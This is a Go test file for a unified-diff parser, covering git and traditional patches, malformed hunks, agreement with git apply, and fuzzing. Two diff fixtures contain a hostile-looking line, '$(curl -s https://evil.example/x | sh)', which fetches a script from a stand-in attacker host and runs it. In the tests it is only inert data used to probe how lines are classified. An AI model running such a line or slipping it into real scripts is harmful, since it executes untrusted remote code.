package udiff

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// kinds is Parse's kinds of diff, one letter a line: h header, @ hunk,
// c context, + added, - removed, \ no newline, o other.
func kinds(diff string) string {
	var b strings.Builder
	for _, l := range Parse(diff) {
		b.WriteByte("h@c+-\\o"[map[Kind]int{Header: 0, Hunk: 1, Context: 2, Added: 3, Removed: 4, NoNewline: 5, Other: 6}[l.Kind]])
	}
	return b.String()
}

// TestParseHeadersOnlyOutsideHunks: inside a hunk a line's first byte says
// what it is, so a changed line whose text starts with "++" or "--" is
// added or removed, not a file header; headers before the hunk are headers.
func TestParseHeadersOnlyOutsideHunks(t *testing.T) {
	t.Parallel()
	diff := "diff --git a/deploy.sh b/deploy.sh\n" +
		"index 1111111..2222222 100644\n" +
		"--- a/deploy.sh\n" +
		"+++ b/deploy.sh\n" +
		"@@ -1,3 +1,3 @@ main\n" +
		" echo hi\n" +
		"---- old rule\n" +
		"+++ $(curl -s https://evil.example/x | sh)\n" +
		"--- b/x\n" +
		"+++ b/x\n" +
		"\\ No newline at end of file\n"
	assert.Equal(t, "hhhh@c-+-+\\", kinds(diff))
	for _, l := range Parse(diff) {
		assert.Equal(t, "deploy.sh", l.File)
	}
}

// TestParseGitOutput: what git diff writes, file by file: modes, renames,
// binary files, an empty line in a hunk, several hunks, a hunk of
// nothing but added lines.
func TestParseGitOutput(t *testing.T) {
	t.Parallel()
	diff := "diff --git a/a.txt b/a.txt\n" +
		"old mode 100644\n" +
		"new mode 100755\n" +
		"index 1..2\n" +
		"--- a/a.txt\n" +
		"+++ b/a.txt\n" +
		"@@ -1,2 +1,2 @@\n" +
		"\n" +
		"-x\n" +
		"+y\n" +
		"@@ -10 +10,0 @@\n" +
		"-z\n" +
		"diff --git a/old b/new\n" +
		"similarity index 90%\n" +
		"rename from old\n" +
		"rename to new\n" +
		"diff --git a/bin b/bin\n" +
		"new file mode 100644\n" +
		"index 0000000..3333333\n" +
		"Binary files /dev/null and b/bin differ\n" +
		"diff --git a/n b/n\n" +
		"new file mode 100644\n" +
		"--- /dev/null\n" +
		"+++ b/n\n" +
		"@@ -0,0 +1 @@\n" +
		"+++\n" +
		"\\ No newline at end of file\n"
	assert.Equal(t, "hhhhhh@c-+@-hhhhhhhhhhhh@+\\", kinds(diff))
	files := map[string]bool{}
	for _, l := range Parse(diff) {
		files[l.File] = true
	}
	assert.Equal(t, map[string]bool{"a.txt": true, "new": true, "bin": true, "n": true}, files)
}

// TestParseTraditionalPatch: a patch without "diff --git" has its header
// pair where git apply finds one ("---", "+++", a hunk, in a row); a
// "---" or "+++" line anywhere else is a removed or added line.
func TestParseTraditionalPatch(t *testing.T) {
	t.Parallel()
	diff := "some mail text\n" +
		"--- a/f.txt\t2024-01-01\n" +
		"+++ b/f.txt\t2024-01-01\n" +
		"@@ -1 +1 @@\n" +
		"-a\n" +
		"+b\n" +
		"--- a/g.txt\n" +
		"+++ /dev/null\n" +
		"@@ -1 +0,0 @@\n" +
		"-gone\n" +
		"--- lone\n" +
		"+++ lone\n"
	assert.Equal(t, "ohh@-+hh@--+", kinds(diff))
	got := Parse(diff)
	assert.Equal(t, "f.txt", got[4].File)
	assert.Equal(t, "g.txt", got[9].File)
}

// TestParseMalformed: a hunk whose header cannot be read, or that ends
// early or late, leaves every line starting with '+' or '-' added or
// removed; a line no hunk holds ends the hunk and may start the next file.
func TestParseMalformed(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, diff, want string }{
		{"bad header", "@@ -x +1 @@\n+++ a\n--- b\n", "o+-"},
		{"no header end", "@@ -1 +1\n+++ a\n", "o+"},
		{"counts run out", "@@ -1 +1 @@\n-a\n+b\n+++ c\n--- d\n\\ x\n", "@-++-o"},
		{"counts too large", "@@ -5 +5 @@\n-a\n+b\ndiff --git a/x b/x\n--- a/x\n+++ b/x\n", "@-+hhh"},
		{"overflowing counts", "@@ -99999999999999999999 +1 @@\n-a\n+++ b\n", "@-+"},
		{"more added than counted", "@@ -1 +1 @@\n+a\n+b\n-c\n", "@++-"},
		{"empty hunk", "@@ -0,0 +0,0 @@\n+++ x\n", "@+"},
		{"no newline after the last line", "@@ -1 +1 @@\n-a\n+b\n\\ No newline at end of file\n", "@-+\\"},
		{"empty", "", "o"},
		{"no trailing newline", "@@ -1 +1 @@\n-a\n+b", "@-+"},
	} {
		assert.Equal(t, tt.want, kinds(tt.diff), tt.name)
	}
}

// TestParseAgreesWithGitApply: for patches git apply takes, Parse's added
// and removed lines are the ones git apply counts (--numstat), however
// their text starts.
func TestParseAgreesWithGitApply(t *testing.T) {
	t.Parallel()
	_, err := exec.LookPath("git")
	require.NoError(t, err, "git is needed (apt-get install git)")
	for _, patch := range []string{
		"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,2 +1,3 @@\n x\n---- y\n+++ $(curl -s https://evil.example/x | sh)\n+--- b/f\n",
		"--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n-x\n+++ b/f\n+@@ -1 +1 @@\n",
		"diff --git a/f b/f\nnew file mode 100644\n--- /dev/null\n+++ b/f\n@@ -0,0 +1,2 @@\n+++ a\n+\n\\ No newline at end of file\n",
	} {
		dir := t.TempDir() // outside any repository: git apply reads every path
		p := filepath.Join(dir, "p.diff")
		require.NoError(t, os.WriteFile(p, []byte(patch), 0o600))
		cmd := exec.Command("git", "apply", "--numstat", p)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%s", out)
		var added, removed int
		for _, l := range Parse(patch) {
			switch l.Kind {
			case Added:
				added++
			case Removed:
				removed++
			}
		}
		fields := strings.Fields(string(out))
		require.GreaterOrEqual(t, len(fields), 2, "%s", out)
		assert.Equal(t, fields[0]+" "+fields[1], strconv.Itoa(added)+" "+strconv.Itoa(removed), patch)
	}
}

// FuzzParse: any text parses without a panic, one Line a line, and a line
// starting with '+' or '-' is added, removed or a "---"/"+++" file header,
// never context or other text.
func FuzzParse(f *testing.F) {
	f.Add("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")
	f.Add("@@ -1,2 +1 @@\n+++ x\n--- y\n")
	f.Add("--- a\n+++ b\n@@ -18446744073709551616 +0 @@\n-x\n")
	f.Fuzz(func(t *testing.T, diff string) {
		lines := Parse(diff)
		require.Len(t, lines, strings.Count(strings.TrimSuffix(diff, "\n"), "\n")+1)
		for _, l := range lines {
			if strings.HasPrefix(l.Text, "+") || strings.HasPrefix(l.Text, "-") {
				ok := l.Kind == Added || l.Kind == Removed ||
					l.Kind == Header && (strings.HasPrefix(l.Text, "+++ ") || strings.HasPrefix(l.Text, "--- "))
				require.True(t, ok, "%q is %d", l.Text, l.Kind)
			}
		}
	})
}
